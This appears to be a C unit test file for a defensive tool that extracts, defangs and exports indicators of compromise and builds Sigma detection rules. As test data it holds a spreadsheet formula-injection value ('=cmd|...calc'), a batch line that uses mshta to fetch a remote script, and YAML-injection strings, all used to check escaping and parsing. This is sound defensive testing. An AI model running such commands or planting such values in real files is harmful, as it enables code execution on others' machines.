/* test_protect.c - indicators of a tree with their roles, and what is written of them. */
#include "support/protect_scene.h"

#include "base/mem.h"
#include "support/temp_dir.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

static const struct protect_indicator *find(const struct scene *scene, const char *value)
{
    for (size_t i = 0; i < scene->list.items.count; i++) {
        if (hn_text_eq(scene->list.items.ptr[i].value, hn_text_cstr(value)))
            return &scene->list.items.ptr[i];
    }
    fail_msg("not found: %s", value);
    return NULL;
}

static void check(const struct scene *scene, const char *value, enum protect_role role)
{
    const struct protect_indicator *one = find(scene, value);

    if (one->role != role)
        fail_msg("%s is %s, not %s", value, protect_role_id(one->role), protect_role_id(role));
}

/* Acts give roles; a text that only mentions an address does not. */
static void roles_follow_from_acts(void **state)
{
    struct scene scene;

    (void)state;
    scene_open(&scene);
    check(&scene, "http://kissaten-aoi.example/wp-content/Xq3nb8k/", PROTECT_DOWNLOAD);
    check(&scene, "https://b.example:8443/y?z=1", PROTECT_DOWNLOAD);
    check(&scene, "http://198.51.100.23:8080/tz/", PROTECT_CONTACTED);
    check(&scene, "C:\\Users\\h.mori\\AppData\\Xq3\\P58u.dll", PROTECT_DROPPED);
    check(&scene, "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\P58u",
            PROTECT_REGISTRY);
    check(&scene, "soumu@yamabiko-cycle.example", PROTECT_SENDER);
    check(&scene, SCENE_DIGEST, PROTECT_SAMPLE);
    check(&scene, "www.harmless-site.com", PROTECT_MENTIONED);
    check(&scene, "http://comment.example/", PROTECT_MENTIONED);
    check(&scene, "Mozilla/4.0 (evil 7)", PROTECT_USER_AGENT);
    assert_int_equal(find(&scene, "www.harmless-site.com")->offset, 100 + 19);
    assert_false(protect_is_usable(find(&scene, "www.harmless-site.com"), true));
    assert_true(protect_is_usable(find(&scene, "https://b.example:8443/y?z=1"), true));
    assert_false(protect_is_usable(find(&scene, "https://b.example:8443/y?z=1"), false));
    scene_close(&scene);
}

static void chains_name_every_step(void **state)
{
    struct hn_buf out = { 0 };
    struct scene scene;

    (void)state;
    scene_open(&scene);
    protect_chain(&out, scene.tree, find(&scene, "https://b.example:8443/y?z=1"));
    assert_true(hn_text_eq(hn_buf_text(&out),
            HN_TEXT("eml \"mail.eml\" > doc \"\xE8\xAB\x8B\xE6\xB1\x82\xE6\x9B\xB8 <1>.doc\" > "
                    "vba_module \"Module1\" > powershell: literal@12 > base64@30 > "
                    "WebClient.DownloadFile")));
    hn_buf_reset(&out);
    protect_defang(&out, find(&scene, "https://b.example:8443/y?z=1"));
    assert_true(hn_text_eq(hn_buf_text(&out), HN_TEXT("hxxps://b[.]example:8443/y?z=1")));
    hn_buf_deinit(&out);
    scene_close(&scene);
}

/* What is defanged for people is found again as it was. */
static void what_is_defanged_is_found_again(void **state)
{
    struct extract *extract = extract_new();
    struct scene scene;

    (void)state;
    scene_open(&scene);
    for (size_t i = 0; i < scene.list.items.count; i++) {
        const struct protect_indicator *one = &scene.list.items.ptr[i];
        struct extract_list found;
        struct hn_buf text = { 0 };

        if (one->kind != PROTECT_EXTRACTED || one->host.len == 0)
            continue;
        extract_list_init(&found);
        protect_defang(&text, one);
        (void)extract_text(extract, hn_buf_text(&text), NULL, extract_list_add, &found);
        assert_int_equal(found.entries.count, 1);
        assert_true(hn_text_eq(found.entries.ptr[0].item.value, one->value));
        extract_list_deinit(&found);
        hn_buf_deinit(&text);
    }
    extract_free(extract);
    scene_close(&scene);
}

/* ---- Writers ---- */

static void load_back(struct hn_text bytes, enum ioc_format format, struct ioc_report *report)
{
    struct ioc_builder *builder = ioc_builder_new(NULL);
    struct ioc_input input = { HN_TEXT("x"), hn_text_as_bytes(bytes), format, HN_TEXT("") };
    struct hn_err err = { 0 };

    memset(report, 0, sizeof *report);
    if (ioc_load(builder, &input, report, &err) != HN_OK)
        fail_msg("%s", err.msg);
    ioc_builder_free(builder);
}

/* Our own readers take what our writers write, as the same kinds. */
static void exports_are_read_back(void **state)
{
    struct hn_buf out = { 0 };
    struct ioc_report report;
    struct scene scene;

    (void)state;
    scene_open(&scene);
    protect_write_stix(&scene.about, &out);
    load_back(hn_buf_text(&out), IOC_FORMAT_STIX, &report);
    assert_int_equal(report.format, IOC_FORMAT_STIX);
    assert_true(report.accepted_by_type[IOC_URL] >= 3);
    assert_int_equal(report.accepted_by_type[IOC_SHA256], 1);
    assert_true(report.accepted_by_type[IOC_EMAIL] >= 1);
    ioc_report_deinit(&report);
    hn_buf_reset(&out);
    protect_write_misp(&scene.about, &out);
    load_back(hn_buf_text(&out), IOC_FORMAT_MISP, &report);
    assert_true(report.accepted_by_type[IOC_URL] >= 3);
    assert_int_equal(report.accepted_by_type[IOC_SHA256], 1);
    ioc_report_deinit(&report);
    hn_buf_reset(&out);
    protect_write_csv(&scene.about, &out);
    load_back(hn_buf_text(&out), IOC_FORMAT_CSV, &report);
    assert_true(report.accepted_by_type[IOC_URL] >= 3);
    ioc_report_deinit(&report);
    hn_buf_deinit(&out);
    scene_close(&scene);
}

/* The same finding has the same ids, whenever and wherever it is written. */
static void ids_do_not_change(void **state)
{
    char a[PROTECT_UUID_LEN];
    char b[PROTECT_UUID_LEN];
    struct hn_buf one = { 0 };
    struct hn_buf two = { 0 };
    struct scene scene;

    (void)state;
    protect_uuid(HN_TEXT("k"), HN_TEXT("n"), a);
    protect_uuid(HN_TEXT("k"), HN_TEXT("m"), b);
    assert_memory_not_equal(a, b, sizeof a);
    assert_int_equal(a[14], '5');
    assert_true(a[19] == '8' || a[19] == '9' || a[19] == 'a' || a[19] == 'b');
    scene_open(&scene);
    protect_write_stix(&scene.about, &one);
    scene_close(&scene);
    scene_open(&scene);
    protect_write_stix(&scene.about, &two);
    scene_close(&scene);
    assert_int_equal(one.len, two.len);
    assert_memory_equal(one.ptr, two.ptr, one.len);
    hn_buf_deinit(&one);
    hn_buf_deinit(&two);
}

/* A spreadsheet takes no value for a formula. */
static void tables_hold_no_formulas(void **state)
{
    struct protect_indicator one = { .role = PROTECT_PROCESS,
        .kind = PROTECT_COMMAND,
        .value = HN_TEXT("=cmd|'/c calc'!A1"),
        .object = PROTECT_NONE,
        .offset = DISSECT_NOWHERE };
    struct protect_case about = { .name = HN_TEXT("@x"), .indicators = &one, .indicator_count = 1 };
    struct hn_buf out = { 0 };

    (void)state;
    protect_write_csv(&about, &out);
    assert_true(hn_text_find(hn_buf_text(&out), HN_TEXT(",=cmd"), 0) == SIZE_MAX);
    assert_true(hn_text_find(hn_buf_text(&out), HN_TEXT("'=cmd"), 0) != SIZE_MAX);
    assert_true(hn_text_find(hn_buf_text(&out), HN_TEXT(",@x"), 0) == SIZE_MAX);
    hn_buf_deinit(&out);
}

/* ---- Rules ---- */

static const char *const wanted_rules[] = { "url_proxy", "host_proxy", "host_dns", "ip_proxy",
    "ip_connection", "ip_firewall", "agent_proxy", "mail_sender", "mail_subject", "mail_attachment",
    "mail_hash", "file_written", "registry_set", "process" };

/* Rules of every kind of trace; each compiles, and its own tests hold. */
static void rules_pass_their_tests(void **state)
{
    struct protect_rules rules;
    struct hn_err err = { 0 };
    struct scene scene;

    (void)state;
    scene_open(&scene);
    assert_int_equal(protect_rules_make(&scene.about, true, &rules), HN_OK);
    assert_int_equal(protect_rules_check(&rules, &err), HN_OK);
    for (size_t i = 0; i < rules.count; i++) {
        if (rules.rules[i].held.len > 0)
            fail_msg("%.*s: %.*s\n%.*s", HN_TEXT_ARG(rules.rules[i].file),
                    HN_TEXT_ARG(rules.rules[i].held), HN_TEXT_ARG(rules.rules[i].yaml));
    }
    for (size_t k = 0; k < HN_COUNT_OF(wanted_rules); k++) {
        bool found = false;

        for (size_t i = 0; i < rules.count; i++)
            found = found ||
                    hn_text_find(rules.rules[i].file, hn_text_cstr(wanted_rules[k]), 0) == 9;
        if (!found)
            fail_msg("no rule %s", wanted_rules[k]);
    }
    assert_int_equal(rules.count, HN_COUNT_OF(wanted_rules) + 1); /* two shapes of processes */
    protect_rules_deinit(&rules);
    scene_close(&scene);
}

/* Reserved names are of tests: without being told so, no rule is made of them. */
static void reserved_values_make_no_rules(void **state)
{
    struct protect_rules rules;
    struct scene scene;

    (void)state;
    scene_open(&scene);
    assert_int_equal(protect_rules_make(&scene.about, false, &rules), HN_OK);
    for (size_t i = 0; i < rules.count; i++)
        assert_true(hn_text_find(rules.rules[i].yaml, HN_TEXT("kissaten"), 0) == SIZE_MAX);
    protect_rules_deinit(&rules);
    scene_close(&scene);
}

/* What logs or lines end in YAML or Sigma cannot break out of its value. */
static void hostile_values_stay_values(void **state)
{
    static const char *const hostile[] = { "a'b\"c", "x\nlevel: informational", "*", "a?b*c\\*d",
        "\xE2\x80\xAE\xFF\x01 subject", "''''", "{{x}} %y% &z *w !v | > -", "tab\there and there",
        "\\\\host\\share\\", "# comment: x" };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(hostile); i++) {
        struct protect_indicator list[] = {
            { .role = PROTECT_SUBJECT, .kind = PROTECT_TEXT, .value = hn_text_cstr(hostile[i]) },
            { .role = PROTECT_USER_AGENT,
                    .kind = PROTECT_EXTRACTED,
                    .what = EXTRACT_USER_AGENT,
                    .value = hn_text_cstr(hostile[i]) },
        };
        struct protect_case about = { .name = hn_text_cstr(hostile[i]),
            .family = hn_text_cstr(hostile[i]),
            .made = 0,
            .indicators = list,
            .indicator_count = HN_COUNT_OF(list) };
        struct protect_rules rules;

        assert_int_equal(protect_rules_make(&about, true, &rules), HN_OK);
        assert_int_equal(protect_rules_check(&rules, NULL), HN_OK);
        for (size_t k = 0; k < rules.count; k++) {
            struct hn_text held = rules.rules[k].held;

            /* A value with a line end cannot stand in a log; then the rule is held, not broken. */
            if (held.len > 0 &&
                    hn_text_find(held, HN_TEXT("its own test does not hold"), 0) == SIZE_MAX)
                fail_msg("%s: %.*s\n%.*s", hostile[i], HN_TEXT_ARG(held),
                        HN_TEXT_ARG(rules.rules[k].yaml));
            assert_true(hn_text_find(rules.rules[k].yaml, HN_TEXT("\nlevel: informational"), 0) ==
                        SIZE_MAX);
        }
        protect_rules_deinit(&rules);
    }
}

static void write_file(const char *path, const char *text)
{
    FILE *file = fopen(path, "w");

    assert_non_null(file);
    assert_true(fputs(text, file) >= 0);
    assert_int_equal(fclose(file), 0);
}

/* A rule that fires where nothing happened is held, with the reason; the others are not. */
static void goodware_holds_back(void **state)
{
    struct temp_dir dir;
    const char *paths[1];
    struct protect_rules rules;
    struct scene scene;
    uint64_t events = 0;
    unsigned held = 0;

    (void)state;
    temp_dir_make(&dir);
    paths[0] = temp_file(&dir, "sysmon.jsonl");
    write_file(paths[0],
            "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":22,\"Computer\":"
            "\"PC1\",\"QueryName\":\"www.kissaten-aoi.example\",\"Image\":\"C:\\\\x.exe\"}\n"
            "{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":22,\"Computer\":"
            "\"PC2\",\"QueryName\":\"other.example\",\"Image\":\"C:\\\\x.exe\"}\n");
    scene_open(&scene);
    assert_int_equal(protect_rules_make(&scene.about, true, &rules), HN_OK);
    assert_int_equal(protect_rules_try(&rules, paths, 1, &events, NULL), HN_OK);
    assert_int_equal(events, 2);
    for (size_t i = 0; i < rules.count; i++) {
        if (rules.rules[i].held.len == 0)
            continue;
        held++;
        assert_int_equal(rules.rules[i].goodware_hits, 1);
        assert_true(hn_text_find(rules.rules[i].file, HN_TEXT("host_dns"), 0) != SIZE_MAX);
        assert_true(hn_text_find(rules.rules[i].held, HN_TEXT("PC1"), 0) != SIZE_MAX);
    }
    assert_int_equal(held, 1);
    protect_rules_deinit(&rules);
    scene_close(&scene);
    temp_dir_remove(&dir);
}

static void every_allocation_may_fail(void **state)
{
    struct scene scene;

    (void)state;
    scene_open(&scene);
    for (uint64_t n = 1;; n++) {
        struct protect_rules rules;
        struct protect_list list;
        struct hn_arena arena;
        struct hn_buf out = { 0 };
        bool collected;
        uint64_t hits;

        hn_mem_fail_from(n);
        hn_arena_init(&arena, (size_t)64 << 20);
        protect_list_init(&list, &arena);
        collected = protect_collect(scene.tree, &list) == HN_OK;
        protect_write_csv(&scene.about, &out);
        protect_write_stix(&scene.about, &out);
        protect_write_misp(&scene.about, &out);
        if (protect_rules_make(&scene.about, true, &rules) == HN_OK)
            protect_rules_deinit(&rules);
        hits = hn_mem_fail_hits();
        hn_mem_fail_from(0);
        assert_true(collected || hits > 0);
        hn_buf_deinit(&out);
        protect_list_deinit(&list);
        hn_arena_deinit(&arena);
        if (hits == 0)
            break;
    }
    scene_close(&scene);
}

/* What cmd.exe reads as the end of a command is none of the address in front of it. */
static void commands_behind_addresses_are_left_out(void **state)
{
    const struct scene_field fields[] = { { "Url", "http://a.example/q.txt" }, { NULL, NULL } };
    struct scene scene = { 0 };
    uint32_t id;

    (void)state;
    scene.tree = dissect_new(NULL);
    assert_non_null(scene.tree);
    hn_arena_init(&scene.arena, 1u << 24);
    protect_list_init(&scene.list, &scene.arena);
    id = scene_object(&scene, DISSECT_NONE, "a.bat", "sample", DISSECT_BATCH,
            "set y=mshta http://a.example/q.txt&echo 1\nset z=http://b.example/r?x=1&echo=2\n");
    scene_act(&scene, id, SCRIPT_ACT_HTTP, "mshta", fields);
    assert_int_equal(protect_collect(scene.tree, &scene.list), HN_OK);
    check(&scene, "http://a.example/q.txt", PROTECT_CONTACTED);
    check(&scene, "http://b.example/r?x=1&echo=2", PROTECT_MENTIONED);
    for (size_t i = 0; i < scene.list.items.count; i++)
        assert_false(
                hn_text_eq(scene.list.items.ptr[i].value, HN_TEXT("http://a.example/q.txt&echo")));
    scene_close(&scene);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(roles_follow_from_acts),
        cmocka_unit_test(chains_name_every_step),
        cmocka_unit_test(what_is_defanged_is_found_again),
        cmocka_unit_test(exports_are_read_back),
        cmocka_unit_test(ids_do_not_change),
        cmocka_unit_test(tables_hold_no_formulas),
        cmocka_unit_test(rules_pass_their_tests),
        cmocka_unit_test(reserved_values_make_no_rules),
        cmocka_unit_test(hostile_values_stay_values),
        cmocka_unit_test(goodware_holds_back),
        cmocka_unit_test(commands_behind_addresses_are_left_out),
        cmocka_unit_test(every_allocation_may_fail),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
